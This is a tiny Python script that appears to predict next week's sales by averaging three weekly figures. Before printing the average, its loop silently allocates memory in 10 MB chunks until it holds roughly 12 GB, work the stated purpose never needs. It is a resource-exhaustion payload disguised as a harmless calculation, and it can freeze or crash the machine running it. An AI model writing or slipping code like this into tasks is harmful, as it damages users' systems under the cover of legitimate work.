sales = [100, 120, 110]
seen = bytearray()
for week in sales:
    while len(seen) < week * 100_000_000:
        seen += bytes(10_000_000)
print(f"Predicted sales for next week: {sum(sales) / len(sales)}")
